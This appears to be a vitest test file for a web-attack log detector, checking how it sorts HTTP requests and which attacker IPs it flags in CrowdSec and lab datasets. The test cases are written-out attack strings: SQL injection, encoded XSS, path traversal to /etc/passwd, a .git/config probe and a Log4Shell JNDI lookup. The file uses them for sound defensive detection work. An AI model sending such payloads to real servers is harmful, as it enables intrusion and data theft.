import { existsSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { SHARED_DATASETS } from '../../test/shared-datasets.ts';
import { detectFiles } from './event-harness.ts';
import { classifyRequest, decodeTarget } from './web-patterns.ts';

const req = (target: string, userAgent: string | null = 'Mozilla/5.0', status = 404) => ({
  target,
  userAgent,
  referer: null,
  status,
});

describe('classifyRequest', () => {
  it('puts probes in their category, decoded, and ordinary requests in none', () => {
    expect(classifyRequest(req('/foo?a=%20union%20all%20select%20'))).toEqual(['sqli']);
    expect(classifyRequest(req("/item?id=1'+or+'1'='1"))).toEqual(['sqli']);
    expect(classifyRequest(req('/q?s=%253Cscript%253Ealert(1)'))).toContain('xss');
    expect(classifyRequest(req('/static/..%2f..%2f..%2fetc/passwd'))).toEqual(['path-traversal']);
    expect(classifyRequest(req('/.git/config'))).toEqual(['sensitive-file']);
    expect(classifyRequest(req('/', '${jndi:ldap://198.51.100.1/a}', 200))).toEqual(['jndi']);
    expect(classifyRequest(req('/', 'Mozilla/5.00 (Nikto/2.1.5)', 200))).toEqual(['scanner']);
    expect(classifyRequest(req('/wp-login.php'))).toEqual(['cms-probe']);
    expect(classifyRequest(req('/client', 'Mozilla/5.0', 401))).toEqual(['http-auth']);
    // The site's own WordPress answering 200 is not a probe.
    expect(classifyRequest(req('/wp-admin/', 'Mozilla/5.0', 200))).toEqual([]);
    expect(classifyRequest(req('/articles/selection-from-the-archive?page=2', 'Mozilla/5.0', 200))).toEqual(
      [],
    );
    expect(decodeTarget('/a%zz+b')).toBe('/a%zz b');
  });
});

const HUB = path.join(SHARED_DATASETS, 'crowdsec-hub');
describe.skipIf(!existsSync(HUB))('web-attack on the CrowdSec hub test cases (shared datasets)', () => {
  // Expected attackers from each case's scenario.assert. The http-dos-* cases are request floods:
  // http-flood.test.ts. nginx-http-generic-bf: nginx error-log basic-auth failures to `localhost`
  // and access-log 401s to the unnamed server, two findings as CrowdSec's two results.
  const cases: [string, string, string[], string][] = [
    ['apache-http-probing', 'apache-http-probing.log', ['172.17.0.1'], '4xx-burst'],
    ['apache_log4j2_cve-2021-44228', 'log4j2.log', ['192.168.1.3', '192.168.1.4', '192.168.1.5'], 'jndi'],
    ['http-wordpress-scan', 'http-wordpress-scan.log', ['127.0.0.1', '192.168.1.1'], 'cms-probe'],
    ['nginx-bad-user-agent', 'nginx-bad-user-agent.log', ['127.0.0.1'], 'scanner'],
    ['nginx-http-path-traversal', 'nginx-http-path-traversal.log', ['127.0.0.1'], 'path-traversal'],
    ['nginx-http-sensitive-files', 'nginx-http-sensitive-files.log', ['127.0.0.1'], 'sensitive-file'],
    ['nginx-http-sqli-probing', 'nginx-http-sqli-probing.log', ['127.0.0.1'], 'sqli'],
    ['nginx-http-xss-probing', 'nginx-http-xss-probing.log', ['127.0.0.1'], 'xss'],
    ['nginx-http-generic-bf', 'nginx-http-generic-bf.log', ['127.0.0.1', '127.0.0.1'], 'http-auth'],
  ];
  it.each(cases)('%s gives the expected attacker', async (name, _file, want, category) => {
    const { findings } = await detectFiles([path.join(HUB, name)]);
    const web = findings.filter((f) => f.detector === 'web-attack');
    expect(web.map((f) => f.actor.ip).sort()).toEqual([...want].sort());
    for (const f of web) expect(f.detail['categories']).toContain(category);
  });
});

const APACHE = path.join(SHARED_DATASETS, 'elastic-apache', 'apache_logs.gz');
describe.skipIf(!existsSync(APACHE))('web-attack on 10 000 benign Apache lines', () => {
  it('gives no medium-or-higher finding (of any detector)', async () => {
    const { findings, counts } = await detectFiles([APACHE]);
    expect(counts.events).toBe(10_000);
    expect(findings.filter((f) => f.severity >= 4).map((f) => f.title)).toEqual([]);
  });
});

const NGINX = path.join(SHARED_DATASETS, 'generated', 'ndr-lab.nginx-access.log.gz');
describe.skipIf(!existsSync(NGINX))('web-attack on the ndr-lab nginx log', () => {
  it('finds the dirb content discovery from 10.200.0.9, and nothing from the benign browser', async () => {
    const { findings } = await detectFiles([NGINX]);
    const web = findings.filter((f) => f.detector === 'web-attack');
    expect(web.map((f) => [f.actor.ip, f.severityLabel])).toEqual([['10.200.0.9', 'medium']]);
    expect(web[0]!.detail['errors4xx']).toBeGreaterThan(900);
  });
});
